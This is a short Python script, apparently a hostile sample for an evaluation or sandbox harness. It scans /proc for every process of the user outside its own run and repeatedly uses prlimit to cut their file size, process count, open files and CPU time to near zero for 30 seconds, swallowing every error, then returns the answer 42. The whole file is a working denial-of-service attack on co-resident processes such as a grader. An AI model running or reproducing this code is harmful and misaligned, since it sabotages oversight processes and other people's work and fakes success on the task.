"""Sets limits of all other processes of the user: no file larger than nothing, few descriptors."""

import contextlib
import os
import resource
import time


def others():
    """Pids of all processes in sight that are not of this run: neither it, nor what it started."""
    seen = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{name}/stat") as stat:
                seen[int(name)] = int(stat.read().rpartition(")")[2].split()[1])
    mine = {os.getpid()}
    for _ in range(8):
        mine |= {pid for pid, parent in seen.items() if parent in mine}
    return sorted(set(seen) - mine - {1})


def attack():
    for pid in others():
        for kind in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(pid, kind, (0, 0))
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (4, 4))
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))


def answer(up):
    end = time.monotonic() + 30
    attack()
    up()
    while time.monotonic() < end:
        attack()
    return 42

